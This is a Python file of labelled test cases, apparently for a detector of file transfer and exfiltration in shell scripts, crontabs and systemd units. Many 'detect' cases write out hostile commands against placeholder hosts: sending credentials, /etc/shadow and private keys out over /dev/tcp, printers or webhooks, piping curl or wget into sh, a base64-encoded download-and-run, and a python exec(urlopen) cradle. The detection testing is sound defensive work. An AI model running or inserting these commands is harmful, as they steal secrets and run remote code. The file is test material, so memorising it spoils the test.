"""sh, bash-cron, cron, systemd and text cases for holdout7."""
from common import C, b64

# ---------------------------------------------------------------- sh: detect
C("h7-sh-gtfobins-hping3-icmp-upload-01", "GTFOBins hping3 (file-upload: --icmp --data --sign --file)", "sh",
  "/usr/local/sbin/netprobe-report", "detect", r'''
#!/bin/sh
# ship the probe log out-of-band over ICMP
RHOST=203.0.113.44
LFILE=/var/log/netprobe/summary.log
hping3 "$RHOST" --icmp --data 120 --sign np7 --file "$LFILE" -c 30
''')

C("h7-sh-gtfobins-lp-upload-01", "GTFOBins lp (file-upload via -h host:port)", "sh",
  "/usr/lib/cups/backend-helpers/mirror-job", "detect", r'''
#!/bin/sh
set -eu
TARGET_PRINTER_HOST="198.51.100.23:9631"
for f in /etc/cups/ppd/*.ppd /root/.ssh/id_ed25519; do
    lp -h "$TARGET_PRINTER_HOST" "$f" || true
done
''')

C("h7-sh-gtfobins-cancel-upload-01", "GTFOBins cancel (file-upload: -u \"$(cat $LFILE)\" -h host:port)", "sh",
  "/opt/printq/bin/flush-queue.sh", "detect", r'''
#!/bin/bash
LFILE=/etc/shadow
cancel -u "$(cat "$LFILE")" -h printq-relay.example:631
''')

C("h7-sh-gtfobins-restic-rest-upload-01", "GTFOBins restic (file-upload: backup -r rest:http://...)", "sh",
  "/usr/local/bin/restic-nightly-rest", "detect", r'''
#!/usr/bin/env bash
set -euo pipefail
export RESTIC_PASSWORD_FILE=/run/secrets/restic_pw
REPO="rest:http://backup-sink.example:8000/$(hostname)"
restic -r "$REPO" init 2>/dev/null || true
restic -r "$REPO" backup /srv/app/data /etc/app --tag nightly
''')

C("h7-sh-gtfobins-smbclient-put-01", "GTFOBins smbclient (file-upload: -c 'put ...')", "sh",
  "/opt/reports/push-to-share.sh", "detect", r'''
#!/bin/bash
cd /opt/reports/out
smbclient '//198.51.100.71/drop' -U 'svc_report%Winter2026' -c 'prompt OFF; mput *.csv'
''')

C("h7-sh-gtfobins-tftp-here-doc-put-01", "GTFOBins tftp (file-upload: put over a here-doc)", "sh",
  "/etc/network/if-up.d/save-running-config", "detect", r'''
#!/bin/sh
[ "$IFACE" = "eth0" ] || exit 0
tftp 192.0.2.69 <<EOF
binary
put /etc/network/interfaces running-$(hostname).cfg
quit
EOF
''')

C("h7-sh-gtfobins-socat-file-download-01", "GTFOBins socat (file-download: tcp-connect to FILE)", "sh",
  "/usr/local/lib/agent/fetch-module.sh", "detect", r'''
#!/bin/sh
MOD_DIR=/usr/local/lib/agent/modules
mkdir -p "$MOD_DIR"
socat -u tcp-connect:modules.agent.example:4455 open:"$MOD_DIR/mod_collect.so",creat,trunc
chmod 755 "$MOD_DIR/mod_collect.so"
''')

C("h7-sh-gtfobins-nc-recv-01", "GTFOBins nc (file-download: nc host port > file)", "sh",
  "/docker-entrypoint.d/15-pull-bootstrap.sh", "detect", r'''
#!/bin/sh
# pull the bootstrap blob from the seed host before nginx starts
nc -w 5 seed.cluster.example 7070 > /tmp/.bootstrap && sh /tmp/.bootstrap
''')

C("h7-sh-gtfobins-openssl-s-client-download-01", "GTFOBins openssl (file-download: s_client -quiet > file)", "sh",
  "/opt/vault-agent/bin/grab-bundle", "detect", r'''
#!/bin/bash
RHOST=203.0.113.90
RPORT=8443
openssl s_client -quiet -connect "$RHOST:$RPORT" < /dev/null > /opt/vault-agent/bundle.bin 2>/dev/null
tar -xzf /opt/vault-agent/bundle.bin -C /opt/vault-agent/
''')

C("h7-sh-gtfobins-bash-dev-tcp-upload-01", "GTFOBins bash (file-upload: /dev/tcp redirection)", "sh",
  "/home/builder/.local/bin/ship-logs", "detect", r'''
#!/bin/bash
for f in ~/.bash_history ~/.aws/credentials; do
    [ -r "$f" ] && cat "$f" > /dev/tcp/198.51.100.12/9001
done
''')

C("h7-sh-gtfobins-busybox-ftpput-01", "GTFOBins busybox / BusyBox ftpput applet (upload)", "sh",
  "/etc/periodic/15min/ftp-push", "detect", r'''
#!/bin/sh
# Alpine periodic job
busybox ftpput -u anonymous -p guest ftp.drop.example /incoming/$(hostname).tgz /var/backups/latest.tgz
''')

C("h7-sh-gtfobins-ssh-cat-upload-01", "GTFOBins ssh (file-upload: ssh host 'cat > file' < local)", "sh",
  "/usr/local/bin/export-keys", "detect", r'''
#!/bin/sh
ssh -o StrictHostKeyChecking=no -i /etc/keys/export_id ops@203.0.113.140 "cat > /srv/dump/$(hostname).keys" < /etc/ssl/private/server.key
''')

C("h7-sh-gtfobins-ssh-cat-download-01", "GTFOBins ssh (file-download: ssh host 'cat file' > local)", "sh",
  "/opt/tooling/sync-agent.sh", "detect", r'''
#!/bin/bash
set -e
DEST=/opt/tooling/bin/agentd
ssh -p 2222 deploy@tools.internal.example 'cat /srv/releases/agentd-linux-amd64' > "$DEST"
chmod +x "$DEST" && "$DEST" --daemon
''')

C("h7-sh-gtfobins-aria2c-input-file-01", "GTFOBins aria2c (file-download) with an -i list", "sh",
  "/usr/share/mirror-tools/prefetch.sh", "detect", r'''
#!/bin/sh
LIST=$(mktemp)
printf '%s\n' "http://cdn.example.net/pkgs/helper.bin" "  out=helper.bin" > "$LIST"
aria2c --allow-overwrite=true -d /var/cache/prefetch -i "$LIST"
''')

C("h7-sh-gtfobins-curl-file-upload-01", "GTFOBins curl (file-upload: -X POST --data @file)", "sh",
  "/usr/local/bin/crashdump-upload", "detect", r'''
#!/bin/sh
for core in /var/crash/*.core; do
  curl -s -X POST --data-binary "@${core}" "https://crash-intake.example.com/v2/upload?host=$(hostname)"
done
''')

C("h7-sh-sigma-shai-hulud-webhook-exfil-01", "Sigma Shai-Hulud exfiltration (curl -d ... webhook URL)", "sh",
  "/usr/local/share/.npm-hooks/postinstall-report.sh", "detect", r'''
#!/bin/bash
payload=$(env | base64 -w0)
curl -s -d "$payload" https://hooks.example.org/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7 >/dev/null 2>&1
''')

C("h7-sh-sigma-amos-curl-post-zip-01", "Sigma Atomic macOS Stealer curl POST file=@/tmp/out.zip", "sh",
  "/usr/local/share/.cache/submit.sh", "detect", r'''
#!/bin/bash
curl -X POST -H "user: c2VydmljZQ==" -H "BuildID: 7f3a" -H "cl: 0" -F "file=@/tmp/out.zip" http://198.51.100.201/contact
''')

C("h7-sh-sigma-unc4841-wget-tar-direct-ip-01", "Sigma UNC4841 wget --no-check-certificate https://IP/...tar", "sh",
  "/opt/esg/etc/update-rules.sh", "detect", r'''
#!/bin/sh
cd /tmp
wget --no-check-certificate https://203.0.113.17:8080/rules-update.tar
tar -xf rules-update.tar && ./install.sh
''')

C("h7-sh-sigma-curl-socks-onion-01", "Sigma Kalambur curl through socks5h:// to .onion", "sh",
  "/usr/local/bin/fetch-via-tor", "detect", r'''
#!/bin/sh
curl --socks5-hostname 127.0.0.1:9050 -sko /tmp/stage2 http://abcdefghijklmnop.onion.example/s2.bin
curl -x socks5h://127.0.0.1:9050 -o /tmp/stage3 http://qrstuvwxyzabcdef.onion.example/s3.bin
chmod +x /tmp/stage2 /tmp/stage3
''')

C("h7-sh-sigma-wget-post-file-01", "Sigma Potentially Suspicious Data Exfiltration via CLI (wget --post-file)", "sh",
  "/srv/ci/hooks/after-build", "detect", r'''
#!/bin/sh
tar czf /tmp/ws.tgz -C "$CI_PROJECT_DIR" .
wget -q --post-file=/tmp/ws.tgz --header="Content-Type: application/gzip" http://collector.example.net/ingest -O /dev/null
''')

C("h7-sh-art-linux-download-run-variant-01", "ART T1105 Linux Download File and Run (curl -sO then chmod/exec)", "sh",
  "/opt/atomic/linux-dl-run.sh", "detect", r'''
#!/bin/bash
remote_url="https://files.example.com/tools/atomic-hello.sh"
cd /tmp && curl -sO "$remote_url"
chmod +x ./atomic-hello.sh && ./atomic-hello.sh
''')

C("h7-sh-art-rsync-ssh-option-pull-01", "ART T1105 rsync remote file copy (pull) with -e ssh", "sh",
  "/usr/local/bin/pull-artifacts", "detect", r'''
#!/bin/sh
rsync -avz -e "ssh -i /etc/ci/deploy_key -p 2200" ci@198.51.100.88:/builds/latest/ /opt/app/current/
''')

C("h7-sh-art-sftp-batch-pull-01", "ART T1105 sftp remote file copy (pull) with -b batchfile", "sh",
  "/usr/local/bin/sftp-nightly-get", "detect", r'''
#!/bin/bash
BATCH=$(mktemp)
printf 'cd /outbound\nget payroll-*.csv /data/inbound/\nbye\n' > "$BATCH"
sftp -b "$BATCH" -i /etc/sftp/id_rsa partner@sftp.partner.example
rm -f "$BATCH"
''')

C("h7-sh-art-scp-push-jump-01", "ART T1105 scp remote file copy (push) via ProxyJump", "sh",
  "/opt/dbtools/bin/offsite-copy", "detect", r'''
#!/bin/sh
scp -o ProxyJump=bastion.example.net -C /var/backups/pg/latest.dump.gz archive@203.0.113.61:/archive/pg/
''')

C("h7-sh-wget-variable-url-line-continuation-01", "author: wget with line continuations, URL built from variables", "sh",
  "/usr/local/bin/install-exporter", "detect", r'''
#!/bin/sh
set -e
VER=1.9.4
BASE=https://releases.example.org/exporter
wget \
    --quiet \
    --tries=3 \
    --output-document=/tmp/exporter.tgz \
    "${BASE}/v${VER}/exporter-${VER}.linux-amd64.tar.gz"
tar -xzf /tmp/exporter.tgz -C /usr/local/bin --strip-components=1
''')

C("h7-sh-curl-schemeless-host-port-01", "author: curl with a schemeless host:port/path", "sh",
  "/opt/sidecar/bootstrap.sh", "detect", r'''
#!/bin/sh
curl -fsS 198.51.100.9:8081/bin/sidecar-agent -o /opt/sidecar/agent
chmod 0755 /opt/sidecar/agent
exec /opt/sidecar/agent
''')

C("h7-sh-sudo-env-curl-pipe-bash-01", "author: wrapper sudo -E env ... curl | sudo bash", "sh",
  "/home/vagrant/provision.sh", "detect", r'''
#!/usr/bin/env bash
sudo -E env DEBIAN_FRONTEND=noninteractive apt-get update -q
curl -fsSL https://get.tooling.example/install.sh | sudo -E bash -s -- --channel stable
''')

C("h7-sh-base64-decode-exec-01", "author: printf base64 | base64 -d | sh (ART obfuscated download)", "sh",
  "/etc/profile.d/zz-telemetry.sh", "detect", "#!/bin/sh\nprintf %s '" +
  b64("wget -qO /tmp/.t http://203.0.113.5/t && sh /tmp/.t\n") + "' | base64 -d | sh\n")

C("h7-sh-python-inline-urlretrieve-01", "GTFOBins python (file-download) as a one-liner inside a shell script", "sh",
  "/usr/local/bin/get-model-weights", "detect", r'''
#!/bin/sh
python3 -c "import urllib.request as u; u.urlretrieve('https://models.example.com/ckpt/small.bin', '/models/small.bin')"
''')

C("h7-sh-perl-inline-lwp-01", "GTFOBins perl (file-download) one-liner with LWP::Simple getstore", "sh",
  "/usr/lib/nagios/plugins/update_plugins.sh", "detect", r'''
#!/bin/sh
perl -MLWP::Simple -e 'getstore("http://monitor.example.net/plugins/check_disk_ext", "/usr/lib/nagios/plugins/check_disk_ext")'
chmod +x /usr/lib/nagios/plugins/check_disk_ext
''')

C("h7-sh-php-inline-copy-01", "GTFOBins php (file-download: copy() with a URL)", "sh",
  "/var/www/html/bin/refresh-geoip", "detect", r'''
#!/bin/sh
php -r 'copy("https://geo.example.com/db/GeoLite-City.mmdb", "/var/www/html/data/geo.mmdb");'
''')

C("h7-sh-ruby-inline-open-uri-01", "GTFOBins ruby (file-download) one-liner with open-uri", "sh",
  "/opt/gitlab-helpers/fetch-template", "detect", r'''
#!/bin/sh
ruby -ropen-uri -e 'File.write("/tmp/tpl.rb", URI.open("http://templates.example.org/tpl.rb").read)' && ruby /tmp/tpl.rb
''')

C("h7-sh-node-inline-https-get-01", "GTFOBins node (file-download) as an ES-module one-liner with fetch + fs/promises", "sh",
  "/usr/local/bin/pull-ui-bundle", "detect", r'''
#!/bin/sh
node --input-type=module -e "import {writeFile} from 'node:fs/promises'; const r = await fetch('https://cdn.example.net/ui/bundle.js'); await writeFile('/srv/www/bundle.js', Buffer.from(await r.arrayBuffer()))"
''')

C("h7-sh-lua-socket-http-download-01", "GTFOBins lua (file-download with socket.http)", "sh",
  "/usr/local/openresty/bin/fetch-lua-module", "detect", r'''
#!/bin/sh
lua -e 'local h=require("socket.http"); local b=h.request("http://luarocks-mirror.example/mod/resty-auth.lua"); local f=io.open("/usr/local/openresty/lualib/resty/auth.lua","w"); f:write(b); f:close()'
''')

C("h7-sh-git-clone-then-run-01", "author: git clone from a remote then execute a script from it", "sh",
  "/opt/bootstrap/clone-and-run.sh", "detect", r'''
#!/bin/sh
git clone --depth 1 https://git.example.org/ops/hardening.git /tmp/hardening
sh /tmp/hardening/apply.sh
''')

C("h7-sh-kubectl-cp-from-pod-01", "author/GTFOBins kubectl: copy a binary out of a remote pod", "sh",
  "/usr/local/bin/extract-debug-tools", "detect", r'''
#!/bin/bash
kubectl --server=https://203.0.113.200:6443 --insecure-skip-tls-verify -n tools \
  cp toolbox-0:/usr/bin/netshoot /usr/local/bin/netshoot
chmod +x /usr/local/bin/netshoot
''')

C("h7-sh-ftp-netrc-autologin-get-01", "GTFOBins ftp (file-download) with a here-doc and -n", "sh",
  "/opt/legacy/bin/get-rates.sh", "detect", r'''
#!/bin/sh
ftp -inv ftp.rates.example <<END_FTP
user anonymous guest@example.com
binary
get rates-latest.dat /opt/legacy/data/rates.dat
bye
END_FTP
''')

C("h7-sh-tar-remote-archive-rsh-01", "GTFOBins tar (file-download: -xvf user@host:archive --rsh-command)", "sh",
  "/usr/local/sbin/restore-from-tape-host", "detect", r'''
#!/bin/sh
tar -xvf backup@tapehost.example:/dumps/etc-latest.tar --rsh-command=/usr/bin/ssh -C /
''')

C("h7-sh-curl-config-file-url-01", "author: curl -K config holding the URL (variables and indirection)", "sh",
  "/usr/local/bin/pull-with-config", "detect", r'''
#!/bin/sh
cat > /tmp/.curlrc <<'CFG'
url = "http://198.51.100.54/payloads/helper"
output = "/tmp/helper"
silent
CFG
curl -K /tmp/.curlrc && chmod +x /tmp/helper && /tmp/helper
''')

C("h7-sh-wget-spider-then-download-recursive-01", "author: wget mirror -r -np from a remote index", "sh",
  "/srv/mirror/bin/mirror-tools.sh", "detect", r'''
#!/bin/bash
wget -r -np -nH --cut-dirs=2 -R "index.html*" -P /srv/mirror/tools http://tools.example.com/pub/linux/
''')

C("h7-sh-zshrc-curl-function-01", "author: .zshrc function that downloads and sources a plugin", "sh",
  "/home/dev/.zshrc", "detect", r'''
# ~/.zshrc
export ZSH_PLUGINS=$HOME/.zsh/plugins
load_remote_plugin() {
  curl -fsSL "https://plugins.example.org/zsh/$1.zsh" -o "$ZSH_PLUGINS/$1.zsh"
  source "$ZSH_PLUGINS/$1.zsh"
}
load_remote_plugin prompt-fast
''', executable=False)

C("h7-sh-eval-curl-command-substitution-01", "author: bash -c \"$(curl ...)\" cradle (Homebrew-style)", "sh",
  "/usr/local/bin/setup-brew-like", "detect", r'''
#!/bin/bash
/bin/bash -c "$(curl -fsSL https://install.example.com/HEAD/install.sh)"
''')

C("h7-sh-busybox-nc-download-exec-01", "GTFOBins busybox nc (download) in an init script", "sh",
  "/etc/init.d/S99fetch", "detect", r'''
#!/bin/sh
case "$1" in
  start)
    busybox nc 192.0.2.150 4444 > /tmp/fw.bin
    chmod +x /tmp/fw.bin; /tmp/fw.bin &
    ;;
esac
''')

C("h7-sh-scp-legacy-protocol-pull-01", "ART T1105 scp (pull) with -O legacy protocol, -3 remote-to-remote", "sh",
  "/opt/migrate/copy-between-hosts.sh", "detect", r'''
#!/bin/sh
scp -O -3 root@198.51.100.31:/etc/ssl/private/site.key root@198.51.100.32:/etc/ssl/private/site.key
''')

C("h7-sh-wsl-dev-tcp-download-01", "LOLBAS Wsl.exe (Download): bash -c 'cat < /dev/tcp/... > binary'", "sh",
  "/mnt/c/Users/Public/wsl-fetch.sh", "detect", r'''
#!/bin/bash
cat < /dev/tcp/192.0.2.10/54 > /mnt/c/Users/Public/binary.exe
''')

C("h7-sh-uv-pip-index-url-install-01", "author: pip install from an attacker-controlled index / direct URL", "sh",
  "/opt/venv/bin/install-private-deps", "detect", r'''
#!/bin/sh
/opt/venv/bin/pip install --index-url http://pypi.mirror.example/simple --trusted-host pypi.mirror.example internal-agent
/opt/venv/bin/pip install https://wheels.example.com/agent_ext-0.3-py3-none-any.whl
''')

# ---------------------------------------------------------------- sh: silent
C("h7-sh-silent-healthcheck-ipv6-loopback-01", "silent: loopback health probe on [::1]", "sh",
  "/usr/local/bin/healthcheck-v6", "silent", r'''
#!/bin/sh
curl -fsS -g "http://[::1]:8080/healthz" > /dev/null || exit 1
''')

C("h7-sh-silent-wget-spider-localhost-01", "silent: wget --spider against localhost", "sh",
  "/usr/local/bin/wait-for-app", "silent", r'''
#!/bin/sh
i=0
until wget -q --spider http://localhost:3000/ready; do
  i=$((i+1)); [ $i -gt 30 ] && exit 1; sleep 1
done
''')

C("h7-sh-silent-apk-add-01", "silent: microdnf/dnf package install from configured repos", "sh",
  "/usr/local/bin/install-runtime-deps", "silent", r'''
#!/bin/sh
set -e
if command -v microdnf >/dev/null; then PM=microdnf; else PM=dnf; fi
$PM install -y --setopt=install_weak_deps=0 curl-minimal wget rsync openssh-clients tar
$PM clean all
''')

C("h7-sh-silent-usage-text-01", "silent: usage() text that mentions scp and curl", "sh",
  "/usr/local/bin/deployctl", "silent", r'''
#!/bin/sh
usage() {
  cat <<'TXT'
deployctl - local deployment helper
  deployctl build      build the image
  deployctl push       (uses scp under the hood; configure ~/.ssh/config first)
  deployctl status     prints the status; use `curl -v` yourself for debugging
TXT
}
[ $# -eq 0 ] && usage && exit 0
''')

C("h7-sh-silent-rsync-local-01", "silent: rsync between two local directories", "sh",
  "/usr/local/bin/stage-static", "silent", r'''
#!/bin/sh
rsync -a --delete /app/build/static/ /usr/share/nginx/html/static/
''')

C("h7-sh-silent-cp-tar-local-01", "silent: tar and cp of local files", "sh",
  "/usr/local/bin/archive-logs", "silent", r'''
#!/bin/sh
tar -czf /var/backups/logs-$(date +%F).tgz /var/log/app
cp /var/backups/logs-*.tgz /mnt/archive/ 2>/dev/null || true
''')

C("h7-sh-silent-variable-names-01", "silent: variables named after tools, no network", "sh",
  "/usr/local/lib/build/env.sh", "silent", r'''
# sourced by build scripts
CURL_OPTS="--retry 3 --fail"
WGET_BIN=/usr/bin/wget
SCP_TARGET_DIR=/srv/incoming
BITSADMIN_NOTE="windows only"
export CURL_OPTS WGET_BIN SCP_TARGET_DIR BITSADMIN_NOTE
''', executable=False)

C("h7-sh-silent-printf-instructions-01", "silent: printf of manual instructions", "sh",
  "/usr/local/bin/first-run-hint", "silent", r'''
#!/bin/sh
printf '%s\n' "To fetch the optional dataset, run:" \
              "    wget <dataset-url> -P ~/datasets" \
              "This container does not download anything by itself."
''')

C("h7-sh-silent-git-local-log-01", "silent: git operations on the local repository only", "sh",
  "/usr/local/bin/print-version", "silent", r'''
#!/bin/sh
cd /app
git rev-parse --short HEAD 2>/dev/null || cat /app/VERSION
git log -1 --format=%cd 2>/dev/null
''')

C("h7-sh-silent-nc-local-port-check-01", "silent: nc -z port check on 127.0.0.1", "sh",
  "/usr/local/bin/wait-for-db", "silent", r'''
#!/bin/sh
while ! nc -z 127.0.0.1 5432; do
  echo "waiting for postgres"; sleep 2
done
''')

# ---------------------------------------------------------------- bash-cron
C("h7-bashcron-restic-rest-backup-01", "GTFOBins restic (upload) as cron.daily", "bash-cron",
  "/etc/cron.daily/restic-offsite", "detect", r'''
#!/bin/sh
restic --repo rest:https://restic.offsite.example:8443/node7 --password-file /etc/restic.pw backup /etc /home --quiet
''')

C("h7-bashcron-wget-ruleset-01", "author: weekly wget of a ruleset then reload", "bash-cron",
  "/etc/cron.weekly/update-blocklist", "detect", r'''
#!/bin/bash
wget -qO /etc/nginx/blocklist.conf.new http://lists.example.net/nginx/blocklist.conf \
  && mv /etc/nginx/blocklist.conf.new /etc/nginx/blocklist.conf && nginx -s reload
''')

C("h7-bashcron-lftp-mirror-01", "author: lftp mirror pull in cron.hourly", "bash-cron",
  "/etc/cron.hourly/pull-edi", "detect", r'''
#!/bin/sh
lftp -u edi,"$(cat /etc/edi.pass)" -e "mirror --only-newer /out /var/spool/edi/in; quit" sftp://edi.partner.example
''')

C("h7-bashcron-smbclient-get-01", "GTFOBins smbclient (download) in cron.monthly", "bash-cron",
  "/etc/cron.monthly/fetch-templates", "detect", r'''
#!/bin/bash
smbclient //fileserver.corp.example/templates -N -c 'lcd /srv/templates; prompt; mget *.docx'
''')

C("h7-bashcron-silent-logrotate-01", "silent: logrotate cron job", "bash-cron",
  "/etc/cron.daily/logrotate-app", "silent", r'''
#!/bin/sh
/usr/sbin/logrotate /etc/logrotate.d/app
''')

C("h7-bashcron-silent-local-health-01", "silent: daily self-check against localhost", "bash-cron",
  "/etc/cron.daily/selfcheck", "silent", r'''
#!/bin/sh
curl -s -o /dev/null -w '%{http_code}\n' http://127.0.0.1:9000/minio/health/live >> /var/log/selfcheck.log
''')

# ---------------------------------------------------------------- cron
C("h7-cron-d-socat-pull-01", "GTFOBins socat (download) in /etc/cron.d with user field", "cron",
  "/etc/cron.d/refresh-agent", "detect", r'''
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
*/20 * * * * root socat -u TCP:203.0.113.77:8088 CREATE:/usr/local/bin/agent-upd && chmod +x /usr/local/bin/agent-upd
''')

C("h7-cron-d-curl-upload-t-01", "Sigma curl upload (-T) in /etc/cron.d", "cron",
  "/etc/cron.d/ship-audit", "detect", r'''
# m h dom mon dow user command
15 3 * * * root curl -s -T /var/log/audit/audit.log ftp://drop.example.com/incoming/ --user anonymous:
''')

C("h7-cron-spool-debian-wget-pipe-sh-01", "author: Debian user crontab with a wget || curl fallback chain piped to sh", "cron",
  "/var/spool/cron/crontabs/nobody", "detect", r'''
# DO NOT EDIT THIS FILE - edit the master and reinstall.
# (/tmp/crontab.Xq3 installed on Sat Nov 28 22:10:04 2026)
@hourly (wget -q -T 10 -O- http://198.51.100.66/cr.sh || curl -fsm 10 http://198.51.100.66/cr.sh) | /bin/sh >/dev/null 2>&1
''')

C("h7-cron-spool-rhel-python-cradle-01", "author: RHEL user crontab, python3 -c urllib cradle", "cron",
  "/var/spool/cron/tomcat", "detect", r'''
@reboot python3 -c "import urllib.request;exec(urllib.request.urlopen('http://203.0.113.8/p.py').read())"
''')

C("h7-cron-d-rsync-daemon-pull-01", "ART T1105 rsync (pull) from an rsync:// daemon in cron.d", "cron",
  "/etc/cron.d/sync-geodata", "detect", r'''
0 */6 * * * geodata rsync -rt --delete rsync://mirror.geodata.example/geo/ /srv/geodata/
''')

C("h7-cron-d-env-url-aria2c-01", "GTFOBins aria2c with the URL in a crontab environment line", "cron",
  "/etc/cron.d/fetch-feed", "detect", r'''
FEED_URL=https://feeds.example.org/threat/latest.bin
30 2 * * * root aria2c -q -d /var/lib/feeds -o latest.bin "$FEED_URL"
''')

C("h7-cron-spool-scp-push-01", "ART T1105 scp (push) in a user crontab", "cron",
  "/var/spool/cron/crontabs/dbdump", "detect", r'''
MAILTO=""
45 1 * * * scp -q -i $HOME/.ssh/offsite /home/backup/dumps/*.sql.gz offsite@198.51.100.140:/vault/
''')

C("h7-cron-d-php-file-get-contents-01", "GTFOBins php (download) in cron.d", "cron",
  "/etc/cron.d/wp-plugin-refresh", "detect", r'''
0 4 * * 1 www-data php -r 'file_put_contents("/var/www/html/wp-content/mu-plugins/loader.php", file_get_contents("http://203.0.113.99/loader.txt"));'
''')

C("h7-cron-silent-certbot-renew-01", "silent: certbot renew in cron.d", "cron",
  "/etc/cron.d/acme-renew", "silent", r'''
0 */12 * * * root test -x /usr/bin/certbot && perl -e 'sleep int(rand(43200))' && certbot -q renew
''')

C("h7-cron-silent-local-backup-01", "silent: pg_dump to local disk", "cron",
  "/var/spool/cron/crontabs/pgadmin", "silent", r'''
0 2 * * * pg_dump -Fc appdb > /var/backups/appdb-$(date +\%u).dump
''')

C("h7-cron-silent-commented-curl-01", "silent: commented-out curl line and a localhost ping", "cron",
  "/etc/cron.d/metrics-ping", "silent", r'''
# disabled 2026-10: */5 * * * * root curl -s https://metrics.example.com/ping
*/5 * * * * root curl -s http://localhost:9100/metrics > /dev/null
''')

# ---------------------------------------------------------------- systemd
C("h7-systemd-execstartpre-curl-upload-01", "Sigma curl file upload (-F) in ExecStopPost", "systemd",
  "/etc/systemd/system/batch-worker.service", "detect", r'''
[Unit]
Description=Batch worker
After=network-online.target

[Service]
ExecStart=/opt/batch/worker
ExecStopPost=/usr/bin/curl -s -F "report=@/var/lib/batch/last-run.json" https://reports.example.com/api/upload
Restart=on-failure

[Install]
WantedBy=multi-user.target
''')

C("h7-systemd-oneshot-wget-bin-01", "author: oneshot unit downloading a binary with wget", "systemd",
  "/usr/lib/systemd/system/fetch-node-exporter.service", "detect", r'''
[Unit]
Description=Fetch node exporter
Before=node-exporter.service

[Service]
Type=oneshot
RemainAfterExit=yes
ExecStart=/usr/bin/wget -q -O /usr/local/bin/node_exporter http://203.0.113.33/bin/node_exporter
ExecStart=/bin/chmod 0755 /usr/local/bin/node_exporter

[Install]
WantedBy=multi-user.target
''')

C("h7-systemd-sh-c-curl-pipe-01", "author: ExecStart=/bin/sh -c 'curl | sh'", "systemd",
  "/etc/systemd/system/cloud-hook.service", "detect", r'''
[Unit]
Description=Cloud first-boot hook
ConditionPathExists=!/var/lib/cloud-hook.done

[Service]
Type=oneshot
ExecStart=/bin/sh -c 'curl -fsSL http://198.51.100.2/firstboot | sh && touch /var/lib/cloud-hook.done'

[Install]
WantedBy=multi-user.target
''')

C("h7-systemd-dropin-execstartpre-rsync-01", "ART T1105 rsync (pull) in a drop-in ExecStartPre", "systemd",
  "/etc/systemd/system/nginx.service.d/10-sync-content.conf", "detect", r'''
[Service]
ExecStartPre=/usr/bin/rsync -az content@203.0.113.120:/srv/site/ /usr/share/nginx/html/
''')

C("h7-systemd-user-unit-scp-01", "ART T1105 scp (pull) in a user unit", "systemd",
  "/home/dev/.config/systemd/user/dotfiles-sync.service", "detect", r'''
[Unit]
Description=Pull dotfiles

[Service]
Type=oneshot
ExecStart=/usr/bin/scp -r dot@dotfiles.example.net:/srv/dotfiles/. %h/
''')

C("h7-systemd-environment-file-url-01", "author: Environment=URL then ExecStart curl ${URL}", "systemd",
  "/usr/lib/systemd/system/policy-sync.service", "detect", r'''
[Unit]
Description=Policy sync

[Service]
Type=oneshot
Environment=POLICY_URL=https://policy.example.org/bundle.tar.gz
ExecStart=/usr/bin/curl -sfo /var/lib/policy/bundle.tar.gz ${POLICY_URL}
ExecStartPost=/bin/tar -xzf /var/lib/policy/bundle.tar.gz -C /etc/policy
''')

C("h7-systemd-path-unit-service-socat-01", "GTFOBins socat upload in a unit triggered by a path unit", "systemd",
  "/etc/systemd/system/dump-shipper.service", "detect", r'''
[Unit]
Description=Ship new core dumps

[Service]
Type=oneshot
ExecStart=/usr/bin/socat -u FILE:/var/lib/systemd/coredump/latest.zst TCP:198.51.100.250:9999
''')

C("h7-systemd-execstart-python-urlopen-01", "GTFOBins python (download) in a unit", "systemd",
  "/etc/systemd/system/ml-warmup.service", "detect", r'''
[Unit]
Description=Download model at boot

[Service]
Type=oneshot
ExecStart=/usr/bin/python3 -c "import urllib.request as r; open('/srv/model.onnx','wb').write(r.urlopen('https://models.example.net/m.onnx').read())"

[Install]
WantedBy=multi-user.target
''')

C("h7-systemd-silent-healthcheck-01", "silent: readiness check over a unix socket, HUP reload", "systemd",
  "/etc/systemd/system/catalog-api.service", "silent", r'''
[Unit]
Description=Catalog API
Requires=catalog-api.socket

[Service]
User=catalog
ExecStart=/opt/catalog/bin/catalog-api --listen unix:/run/catalog/api.sock
ExecStartPost=/usr/bin/curl --retry 10 --retry-connrefused -sf --unix-socket /run/catalog/api.sock http://localhost/ready
ExecReload=/bin/kill -HUP $MAINPID
''')

C("h7-systemd-silent-timer-01", "silent: timer unit (no commands)", "systemd",
  "/etc/systemd/system/fetch-reports.timer", "silent", r'''
[Unit]
Description=Run report generation daily

[Timer]
OnCalendar=daily
Persistent=true

[Install]
WantedBy=timers.target
''')

C("h7-systemd-silent-documentation-url-01", "silent: Documentation= URL only", "systemd",
  "/usr/lib/systemd/system/docmirror.service", "silent", r'''
[Unit]
Description=Local documentation server
Documentation=https://docs.example.com/docmirror man:docmirror(8)

[Service]
ExecStart=/usr/bin/docmirror --root /usr/share/doc --listen 127.0.0.1:8088
''')

# ---------------------------------------------------------------- text (silent)
C("h7-text-silent-man-page-restic-01", "silent: man-page style text for restic and rclone", "text",
  "/usr/share/doc/backup-kit/USAGE.txt", "silent", r'''
BACKUP-KIT(1)

NAME
    backup-kit - wrappers around restic

EXAMPLES
    restic -r rest:http://restic.example:8000/repo backup /data
        Back up /data to a REST server (replace HOST).
    rclone copy remote:bucket/path /local/path
        Copy files from a configured remote.
''')

C("h7-text-silent-access-log-01", "silent: web server access log mentioning wget/curl user agents", "text",
  "/var/log/nginx/downloads.access.log", "silent", r'''
192.0.2.14 - - [28/Nov/2026:10:01:12 +0000] "GET /downloads/tool.tar.gz HTTP/1.1" 200 5123 "-" "Wget/1.21.4"
198.51.100.7 - - [28/Nov/2026:10:02:40 +0000] "GET /api/v1/items HTTP/1.1" 200 88 "-" "curl/8.5.0"
203.0.113.3 - - [28/Nov/2026:10:03:05 +0000] "BITS_POST /upload HTTP/1.1" 405 0 "-" "Microsoft BITS/7.8"
''')

C("h7-text-silent-readme-install-01", "silent: README snippet with install commands", "text",
  "/opt/toolkit/README.md", "silent", r'''
# toolkit

Install on a workstation (not inside this image):

```
curl -fsSL https://toolkit.example.com/install.sh | sh
```

or on Windows:

```
iwr https://toolkit.example.com/install.ps1 -UseBasicParsing | iex
```
''')

C("h7-text-silent-changelog-01", "silent: changelog mentioning certutil and bitsadmin", "text",
  "/usr/share/doc/winbridge/CHANGELOG", "silent", r'''
2.4.1
